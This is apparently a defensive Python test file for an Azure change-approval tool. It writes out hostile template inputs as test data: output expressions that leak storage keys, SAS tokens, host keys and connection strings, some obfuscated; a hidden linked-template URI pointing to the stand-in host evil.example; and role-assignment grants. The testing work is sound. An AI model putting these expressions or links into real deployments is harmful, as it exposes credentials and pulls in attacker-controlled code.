"""No spelling, template or expression hides from a preview what a change of Azure does."""

from __future__ import annotations

import json
from typing import Any, Final

import pytest
from hypothesis import given
from hypothesis import strategies as st

from refusal import Refusal
from tests.attacks.azure_changes.calls import Json, deploy, words_of, written
from tests.fakes.azure import troubles
from tests.fakes.azure.service import FakeAzure
from tests.fakes.azure.world import OVEN, SHOP
from tests.sweeps import Sweep
from tests.tools.azure.deploying.templates import nested, resource, template, vault
from tests.tools.azure.inventing import refused
from tests.tools.azure.resource_changes.scenes import SITE
from tests.tools.azure.team import Team, team
from tools.azure.resource_any.differences import merged

SPELT: Final = {
    "capitals": {"siteConfig": {"appCommandLine": "RUN SHOP"}},
    "blanks": {"siteConfig": {"appCommandLine": "runshop"}},
    "a line": {"siteConfig": {"appCommandLine": "run\nshop"}},
    "its kind": {"siteConfig": {"appCommandLine": ["run shop"]}},
}


@pytest.mark.parametrize("properties", SPELT.values(), ids=SPELT)
def test_each_letter_that_a_patch_changes_is_shown(properties: Json) -> None:
    found = {"properties": {"httpsOnly": False, "siteConfig": {"appCommandLine": "run shop"}}}
    edits = merged(found, {"properties": {**properties, "httpsOnly": True}})
    assert {edit.path for edit in edits} == {"properties.httpsOnly", "properties.siteConfig.appCommandLine"}


@given(st.text(min_size=1, max_size=20), st.text(min_size=1, max_size=20))
def test_whatever_text_a_patch_sets_it_is_shown_unless_it_is_there(before: str, after: str) -> None:
    assert bool(merged({"properties": {"note": before}}, {"properties": {"note": after}})) is (before != after)


WORDS_OF_TEMPLATES: Final = {
    "that is never met": {"condition": False},
    "in capitals": {"Condition": False},
    "of another place": {"scope": OVEN},
    "of many": {"copy": {"name": "c", "count": 0}},
    "of many within": {"properties": {"copy": [{"name": "rules", "count": 0, "input": {}}]}},
    "that only looks": {"existing": True},
    "with more in it": {"resources": [vault()]},
    "of an older version": {"apiVersion": "2014-01-01"},
}


@Sweep("more", WORDS_OF_TEMPLATES.values(), ids=WORDS_OF_TEMPLATES, every=2)
async def test_no_word_of_templates_hides_what_a_put_does(azure: FakeAzure, house: Team, more: Json) -> None:
    body = {"location": "westeurope", "properties": {"httpsOnly": False}} | more
    words = await refused(house.member("ada"), "change_azure", method="PUT", path=SITE, body=body)
    assert "/changes/" not in words
    assert "template" in words.lower()
    assert not [one for one in azure.asked if one.path.lower().endswith("/whatif")]


RIGHTS: Final = {
    "a role": resource("Microsoft.Authorization/roleAssignments", "a" * 8, properties={"principalId": "b" * 8}),
    "a role at a site": resource(
        "Microsoft.Authorization/roleAssignments", "a" * 8, scope="Microsoft.Web/sites/shop-web", properties={}
    ),
    "a lock": resource("Microsoft.Authorization/locks", "still", properties={"level": "ReadOnly"}),
}


@pytest.mark.parametrize("given", RIGHTS.values(), ids=RIGHTS)
async def test_a_template_gives_no_rights_by_the_agreement_of_its_caller_alone(azure: FakeAzure, given: Json) -> None:
    azure.places["/whatIf"] = _what_if(f"{SHOP}/providers/{given['type']}/{given['name']}")
    azure.places["/validate"] = troubles.answering(200, b"{}")
    async with team(azure) as them:
        words = await words_of(them, "ada", deploy(template(given)))
        assert "Another person must approve" in words
        assert "The change affects permissions" in words
        with pytest.raises(Refusal):
            await them.decides("ada", words)
    assert written(azure) == []


def _what_if(*ids: str) -> troubles.Trouble:
    changes = [{"resourceId": one, "changeType": "Create", "after": {"id": one}} for one in ids]
    document = {"status": "Succeeded", "properties": {"changes": changes}}
    return troubles.answering(200, json.dumps(document).encode())


KEYS: Final = {
    "keys": "[listKeys(resourceId('Microsoft.Storage/storageAccounts', 'shopdata'), '2023-01-01').keys[0].value]",
    "keys in pieces": "[substring(LISTKEYS (resourceId('Microsoft.Storage/storageAccounts', 'x'), '2023').a, 0, 40)]",
    "a signature": "[listAccountSas('shopdata', '2023-01-01', parameters('how')).accountSasToken]",
    "secrets of a host": "[base64(string(listHostKeys(resourceId('Microsoft.Web/sites/host', 'a', 'b'), '2023')))]",
    "keys in a list": ["[concat('x', listkeys('a', '2023').primary)]"],
    "keys as an object": {"a": {"b": "[listConnectionStrings('a', '2023')]"}},
}


@pytest.mark.parametrize("value", KEYS.values(), ids=KEYS)
@pytest.mark.parametrize("is_inner", [False, True], ids=["of the template", "of one within it"])
async def test_no_output_of_a_template_tells_keys(azure: FakeAzure, house: Team, value: Any, is_inner: bool) -> None:
    telling = template(outputs={"data": {"type": "string", "value": value}})
    words = await words_of(house, "ada", deploy(template(nested("shop-prod", telling)) if is_inner else telling))
    assert "Remove the output" in words
    assert azure.asked == []


HIDDEN: Final = {
    "in a parameter": "[parameters('how')]",
    "made up of pieces": '[json(concat(\'{"templateLink": {"uri": "https://evil.example/x"}}\'))]',
}


@pytest.mark.parametrize("properties", HIDDEN.values(), ids=HIDDEN)
@pytest.mark.parametrize("is_inner", [False, True], ids=["of the template", "of one within it"])
async def test_no_link_hides_in_an_expression(azure: FakeAzure, house: Team, properties: str, is_inner: bool) -> None:
    linking = template(
        resource("Microsoft.Resources/deployments", "x", Properties=properties)
        if is_inner
        else resource("Microsoft.Resources/deployments", "x", properties=properties),
        parameters={"how": {"type": "object", "defaultValue": {}}},
    )
    document = template(nested("shop-prod", linking)) if is_inner else linking
    assert "links" in await words_of(house, "ada", deploy(document))
    assert azure.asked == []
